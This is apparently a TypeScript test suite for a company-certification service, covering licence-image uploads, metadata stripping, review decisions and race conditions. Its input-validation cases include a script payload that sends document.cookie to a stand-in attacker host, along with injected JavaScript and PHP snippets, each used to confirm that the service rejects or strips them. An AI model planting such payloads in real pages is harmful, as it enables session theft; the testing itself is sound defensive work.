import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditOf, GOOD_FORM, holdings, ops, registeredCompany, submitCertification } from '../../../test/companies.js';
import { api, buildTestApp, call, DEMO, login, mailHarness, OPS_PASSWORD, type Session, type TestApp } from '../../../test/helper.js';
import { exif, jfif, jpeg, jpegSegment, PDF, png, pngText } from '../../../test/images.js';
import type { Count, Narrow, Row } from '../../db/row.js';
import { exifOrientation } from './licence-image/index.js';

let t: TestApp;
let mail: Awaited<ReturnType<typeof mailHarness>>;
let staff: Session;
let staff2: Session;
beforeAll(async () => {
  t = await buildTestApp();
  mail = await mailHarness(t.database);
  staff = await login(t.app, DEMO.ops, OPS_PASSWORD);
  staff2 = await login(t.app, DEMO.ops, OPS_PASSWORD);
});
afterAll(async () => {
  await mail.close();
  await t.close();
});

const MB2 = 2 * 1024 * 1024;
/** A JPEG padded with a comment segment up to `size` bytes in all (comments are dropped when stored). */
function jpegOfSize(size: number): Buffer {
  const base = jpeg();
  const parts: Buffer[] = [];
  let room = size - base.length;
  while (room > 0) {
    let n = Math.min(room, 65535 + 2);
    if (room - n > 0 && room - n < 4) n -= 4; // every segment needs its 4-byte head
    parts.push(jpegSegment(0xfe, Buffer.alloc(n - 4, 0x41)));
    room -= n;
  }
  return jpeg({ before: [jfif(), ...parts] });
}

async function company(email: string) {
  const c = await registeredCompany(t.database, { email });
  return { ...c, session: await login(t.app, email) };
}
const state = async (companyId: string) =>
  (await t.database.rows<Row<'companies', 'certification'>>(sql`SELECT certification FROM companies WHERE id = ${companyId}`))[0].certification;
const submissions = async (companyId: string) =>
  (await t.database.rows<Count>(sql`SELECT count(*)::int AS n FROM certifications WHERE company_id = ${companyId}`))[0].n;
const latestId = async (companyId: string) =>
  (await t.database.rows<Row<'certifications', 'id'>>(sql`SELECT id FROM certifications WHERE company_id = ${companyId} ORDER BY submitted_at DESC LIMIT 1`))[0]
    .id;

describe('certification submission', () => {
  it('starts not certified, with no submission', async () => {
    const c = await company('fresh@acme-iot.cn');
    expect((await call(t.app, c.session, api('/company/certification/query'))).json().obj).toEqual({ state: 'none', submission: null });
  });

  it('refuses bad input naming the field, in the caller’s language, and stores nothing', async () => {
    const c = await company('bad@acme-iot.cn');
    const img = { data: jpeg() };
    const cases: [Record<string, string>, { data: Buffer; filename?: string; contentType?: string } | null, number, RegExp][] = [
      [{ ...GOOD_FORM, address: 'x'.repeat(101) }, img, 28002, /company address/],
      [{ ...GOOD_FORM, companyName: 'x'.repeat(33) }, img, 28002, /company name/],
      [{ ...GOOD_FORM, licenseNo: '9133-0106' }, img, 28002, /business licence number/],
      [{ ...GOOD_FORM, deviceQuantity: 'lots' }, img, 28002, /device quantity/],
      [{ ...GOOD_FORM, website: 'javascript:alert(1)' }, img, 28002, /website/],
      [{ ...GOOD_FORM, contactPhone: '12345' }, img, 28002, /contact phone/],
      [{ ...GOOD_FORM, contactEmail: 'wang@gmail.com' }, img, 30016, /company e-mail/],
      [{ ...GOOD_FORM, contactEmail: 'Wang@QQ.com' }, img, 30016, /company e-mail/],
      [GOOD_FORM, null, 30020, /required/],
      [GOOD_FORM, { data: jpegOfSize(MB2 + 1) }, 30015, /2 MB/],
      [GOOD_FORM, { data: jpegOfSize(3 * 1024 * 1024) }, 30015, /2 MB/],
      [GOOD_FORM, { data: PDF, filename: 'licence.png', contentType: 'image/png' }, 30014, /JPG or PNG/],
      [GOOD_FORM, { data: Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>'), filename: 'licence.jpg' }, 30014, /JPG or PNG/],
      [GOOD_FORM, { data: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), filename: 'licence.jpg' }, 30014, /JPG or PNG/],
      [GOOD_FORM, { data: jpeg().subarray(0, 100) }, 30014, /JPG or PNG/],
    ];
    for (const [fields, image, code, msg] of cases) {
      const res = await submitCertification(t.app, c.session, fields, image, 'en');
      expect(res.json(), JSON.stringify({ code, msg: String(msg) })).toMatchObject({ success: false, code });
      expect(res.json().msg).toMatch(msg);
    }
    expect(await state(c.companyId)).toBe('none');
    expect(await submissions(c.companyId)).toBe(0);
    expect((await auditOf(t.database, 'certification.submit')).filter((e) => e.company_id === c.companyId)).toHaveLength(0);
  });

  it('accepts an image of exactly 2 MB', async () => {
    const c = await company('exact@acme-iot.cn');
    const data = jpegOfSize(MB2);
    expect(data.length).toBe(MB2);
    expect((await submitCertification(t.app, c.session, GOOD_FORM, { data })).json()).toMatchObject({ success: true, obj: { state: 'review' } });
  });

  it('stores the licence image without EXIF or other metadata, keeping the orientation; the company is under review', async () => {
    const c = await company('exif@acme-iot.cn');
    const data = jpeg({
      before: [jfif({ w: 2, h: 2 }), exif(6, 'SecretCam', 'Jane Doe 31.2304N 121.4737E'), jpegSegment(0xfe, Buffer.from('<script>alert(1)</script>'))],
      after: Buffer.from('<?php echo 1; ?>'),
    });
    const res = await submitCertification(t.app, c.session, { ...GOOD_FORM, contactEmail: 'Wang@Example-IoT.cn' }, { data, filename: 'photo.JPG' });
    expect(res.json().success).toBe(true);
    expect(res.json().obj).toMatchObject({
      state: 'review',
      submission: { ...GOOD_FORM, contactEmail: 'wang@example-iot.cn', submittedBy: '注册人', reviewedAt: null, rejectReason: null },
    });
    const [row] = await t.database.rows<Row<'certifications', 'image' | 'image_type'>>(
      sql`SELECT image, image_type FROM certifications WHERE company_id = ${c.companyId}`,
    );
    const stored = Buffer.from(row.image);
    expect(row.image_type).toBe('image/jpeg');
    for (const s of ['SecretCam', 'Jane Doe', '<script>', '<?php']) expect(stored.includes(Buffer.from(s)), s).toBe(false);
    expect(stored.length).toBeLessThan(data.length);
    const app1 = stored.indexOf(Buffer.from([0xff, 0xe1]));
    expect(exifOrientation(stored.subarray(app1 + 4, app1 + 2 + stored.readUInt16BE(app1 + 2)))).toBe(6);
    // the member reads the stored image back, as stored
    const img = await call(t.app, c.session, api('/company/certification/image'), undefined, { method: 'GET' });
    expect(img.statusCode).toBe(200);
    expect(img.headers['content-type']).toBe('image/jpeg');
    expect(img.rawPayload.equals(stored)).toBe(true);
    expect(await state(c.companyId)).toBe('review');
    const [event] = (await auditOf(t.database, 'certification.submit')).filter((e) => e.company_id === c.companyId);
    expect(event).toMatchObject({ actor_kind: 'member', actor_name: '注册人', target_label: GOOD_FORM.companyName });
    expect(event.changes.state).toEqual(['none', 'review']);
    expect(JSON.stringify(event.changes)).not.toContain('SecretCam');
  });

  it('stores a PNG without its text chunks, whatever the file is called', async () => {
    const c = await company('png@acme-iot.cn');
    const data = png({ extra: [pngText('Author', 'Jane Doe')] });
    expect((await submitCertification(t.app, c.session, GOOD_FORM, { data, filename: 'scan.jpg', contentType: 'image/jpeg' })).json().success).toBe(true);
    const [row] = await t.database.rows<Row<'certifications', 'image' | 'image_type'>>(
      sql`SELECT image, image_type FROM certifications WHERE company_id = ${c.companyId}`,
    );
    expect(row.image_type).toBe('image/png');
    expect(Buffer.from(row.image).includes(Buffer.from('Jane Doe'))).toBe(false);
  });

  it('refuses a second submission while under review (30013), also two at once, and a member without ACCOUNT_INFO (10002)', async () => {
    const c = await company('twice@acme-iot.cn');
    const both = await Promise.all([1, 2].map(() => submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() })));
    expect(both.map((r) => r.json().code).sort()).toEqual([0, 30013]);
    const again = await submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() });
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe(30013);
    expect(await submissions(c.companyId)).toBe(1);
    const specialist = await login(t.app, DEMO.specialist);
    expect((await submitCertification(t.app, specialist, GOOD_FORM, { data: jpeg() })).json().code).toBe(10002);
    expect((await call(t.app, specialist, api('/company/certification/query'))).json().code).toBe(10002);
  });

  it('answers 30030 for the image before any submission', async () => {
    const c = await company('noimage@acme-iot.cn');
    expect((await call(t.app, c.session, api('/company/certification/image'), undefined, { method: 'GET' })).json().code).toBe(30030);
  });
});

describe('certification review (back office)', () => {
  it('lists submissions by state with the count of each, shows one and its image; customers cannot reach it', async () => {
    const c = await company('queue@acme-iot.cn');
    await submitCertification(t.app, c.session, { ...GOOD_FORM, companyName: '队列测试公司' }, { data: png() });
    const id = await latestId(c.companyId);
    const list = (await call(t.app, staff, ops('/certification/list'), { state: 'review', keyword: '队列测试' })).json().obj;
    expect(list).toMatchObject({ total: 1, counts: { review: 1, verified: 0, rejected: 0 } });
    expect(list.list[0]).toMatchObject({ id, companyId: c.companyId, companyName: '队列测试公司', currentCompanyName: '新注册公司', state: 'review' });
    const all = (await call(t.app, staff, ops('/certification/list'), {})).json().obj;
    expect(all.counts.review).toBeGreaterThanOrEqual(1);
    expect(all.list.every((r: { state: string }) => r.state === 'review')).toBe(true);
    expect((await call(t.app, staff, ops('/certification/detail'), { id })).json().obj).toMatchObject({ id, state: 'review', submittedBy: '注册人' });
    const img = await call(t.app, staff, ops(`/certification/image/${id}`), undefined, { method: 'GET' });
    expect(img.headers['content-type']).toBe('image/png');
    expect(img.rawPayload.subarray(1, 4).toString()).toBe('PNG');
    expect((await call(t.app, staff, ops('/certification/detail'), { id: randomUUID() })).json().code).toBe(30030);
    // a customer's session does not reach the back office
    for (const [path, body] of [
      ['/certification/list', {}],
      ['/certification/approve', { id }],
      ['/certification/reject', { id, reason: 'x' }],
    ] as const)
      expect((await call(t.app, c.session, ops(path), body)).json().code).toBe(10002);
    expect(await state(c.companyId)).toBe('review');
  });

  it('rejects only with a reason; the customer is e-mailed it and may submit again', async () => {
    const c = await company('reject@acme-iot.cn');
    await submitCertification(t.app, c.session, { ...GOOD_FORM, contactEmail: 'legal@acme-iot.cn' }, { data: jpeg() });
    const id = await latestId(c.companyId);
    for (const reason of ['', '   ']) {
      const res = await call(t.app, staff, ops('/certification/reject'), { id, reason }, { lang: 'en' });
      expect(res.json()).toMatchObject({ code: 28002 });
      expect(res.json().msg).toMatch(/rejection reason/);
    }
    expect((await call(t.app, staff, ops('/certification/reject'), { id, reason: 'x'.repeat(201) })).json().code).toBe(28002);
    expect(await state(c.companyId)).toBe('review');

    const reason = '营业执照图片模糊，请重新上传清晰的扫描件';
    expect((await call(t.app, staff, ops('/certification/reject'), { id, reason })).json().success).toBe(true);
    expect(await state(c.companyId)).toBe('rejected');
    expect((await call(t.app, c.session, api('/company/certification/query'))).json().obj).toMatchObject({
      state: 'rejected',
      submission: { id, rejectReason: reason },
    });
    await mail.deliver();
    for (const to of ['reject@acme-iot.cn', 'legal@acme-iot.cn']) {
      const m = mail.catcher.messages.find((x) => x.to.includes(to) && x.subject.includes('未通过'));
      expect(m, to).toBeDefined();
      expect(m?.text).toContain(reason);
    }
    // a decided submission is decided: no second decision
    expect((await call(t.app, staff, ops('/certification/reject'), { id, reason: 'again' })).json().code).toBe(30013);
    expect((await call(t.app, staff, ops('/certification/approve'), { id })).json().code).toBe(30013);
    expect(await holdings(t.database, c.companyId)).toEqual({ licenses: 0, dataMb: 100 });

    // resubmission from rejected
    const again = await submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() });
    expect(again.json().obj).toMatchObject({ state: 'review', submission: { rejectReason: null } });
    expect(await submissions(c.companyId)).toBe(2);
    const [event] = (await auditOf(t.database, 'certification.reject')).filter((e) => e.company_id === c.companyId);
    expect(event).toMatchObject({ actor_kind: 'staff', target_id: id, changes: { state: ['review', 'rejected'], reason: [null, reason] } });
  });

  it('approves once: 50 Licenses and 5G arrive with the state, a second approval grants nothing, the customer is e-mailed', async () => {
    const c = await company('approve@acme-iot.cn');
    await submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() });
    const id = await latestId(c.companyId);
    expect(await holdings(t.database, c.companyId)).toEqual({ licenses: 0, dataMb: 100 });

    expect((await call(t.app, staff, ops('/certification/approve'), { id })).json().success).toBe(true);
    expect(await state(c.companyId)).toBe('verified');
    expect(await holdings(t.database, c.companyId)).toEqual({ licenses: 50, dataMb: 100 + 5120 });
    const second = await call(t.app, staff, ops('/certification/approve'), { id });
    expect(second.statusCode).toBe(409);
    expect(second.json().code).toBe(30013);
    expect(await holdings(t.database, c.companyId)).toEqual({ licenses: 50, dataMb: 100 + 5120 });

    // the customer sees it: the overview's stock and pool, and verified
    const overview = (await call(t.app, c.session, api('/account/overview'))).json().obj;
    expect(overview).toMatchObject({ licenseStock: 50, dataTotalMb: 5220, certification: 'verified' });
    await mail.deliver();
    const m = mail.catcher.messages.find((x) => x.to.includes('approve@acme-iot.cn') && x.subject.includes('已通过'));
    expect(m?.text).toContain('50');
    // a verified company cannot submit again
    expect((await submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() })).json().code).toBe(30013);
    expect((await auditOf(t.database, 'certification.approve')).filter((e) => e.target_id === id)).toHaveLength(1);
    const counts = (await call(t.app, staff, ops('/certification/list'), { state: 'verified' })).json().obj;
    expect(counts.list.some((r: { id: string; reviewedBy: string }) => r.id === id && r.reviewedBy === '平台运营人员')).toBe(true);
  });

  it('grants once when two staff members approve at the same moment', async () => {
    const c = await company('race@acme-iot.cn');
    await submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() });
    const id = await latestId(c.companyId);
    const results = await Promise.all([
      call(t.app, staff, ops('/certification/approve'), { id }),
      call(t.app, staff2, ops('/certification/approve'), { id }),
      call(t.app, staff, ops('/certification/reject'), { id, reason: 'late' }),
    ]);
    const codes = results.map((r) => r.json().code).sort();
    expect(codes.filter((x) => x === 0)).toHaveLength(1);
    expect(codes.filter((x) => x === 30013)).toHaveLength(2);
    const final = await state(c.companyId);
    expect(['verified', 'rejected']).toContain(final);
    expect(await holdings(t.database, c.companyId)).toEqual(final === 'verified' ? { licenses: 50, dataMb: 5220 } : { licenses: 0, dataMb: 100 });
    const [ledger] = await t.database.rows<Count>(sql`SELECT count(*)::int AS n FROM license_ledger WHERE ref = ${id}`);
    expect(ledger.n).toBe(final === 'verified' ? 1 : 0);
  });

  it('grants once to two concurrent approvals of the same submission', async () => {
    const c = await company('race2@acme-iot.cn');
    await submitCertification(t.app, c.session, GOOD_FORM, { data: jpeg() });
    const id = await latestId(c.companyId);
    const results = await Promise.all([call(t.app, staff, ops('/certification/approve'), { id }), call(t.app, staff2, ops('/certification/approve'), { id })]);
    expect(results.map((r) => r.json().code).sort()).toEqual([0, 30013]);
    expect(await holdings(t.database, c.companyId)).toEqual({ licenses: 50, dataMb: 5220 });
    expect((await auditOf(t.database, 'certification.approve')).filter((e) => e.target_id === id)).toHaveLength(1);
  });

  it('grants a sub-company billed by its parent into the parent’s stock and pool, which it spends', async () => {
    const [sub] = await t.database.rows<Narrow<Row<'companies', 'id' | 'parent_id'>, { parent_id: string }>>(
      sql`SELECT c.id, c.parent_id FROM companies c JOIN users u ON u.company_id = c.id WHERE u.email = ${DEMO.subAdmin}`,
    );
    await t.database.rows(sql`UPDATE companies SET certification = 'none' WHERE id = ${sub.id}`);
    const subAdmin = await login(t.app, DEMO.subAdmin);
    await submitCertification(t.app, subAdmin, GOOD_FORM, { data: jpeg() });
    const parentBefore = await holdings(t.database, sub.parent_id);
    expect((await call(t.app, staff, ops('/certification/approve'), { id: await latestId(sub.id) })).json().success).toBe(true);
    expect(await holdings(t.database, sub.id)).toEqual({ licenses: 0, dataMb: 0 });
    expect(await holdings(t.database, sub.parent_id)).toEqual({ licenses: parentBefore.licenses + 50, dataMb: parentBefore.dataMb + 5120 });
    // the sub-company's own view shows the stock it draws on: its parent's
    expect((await call(t.app, subAdmin, api('/license/query/count'))).json().obj.stock).toBe(parentBefore.licenses + 50);
  });

  it('answers 30030 for an unknown submission and changes nothing', async () => {
    expect((await call(t.app, staff, ops('/certification/approve'), { id: randomUUID() })).json().code).toBe(30030);
    expect((await call(t.app, staff, ops('/certification/reject'), { id: randomUUID(), reason: 'x' })).json().code).toBe(30030);
    expect((await call(t.app, staff, ops(`/certification/image/${randomUUID()}`), undefined, { method: 'GET' })).json().code).toBe(30030);
  });
});
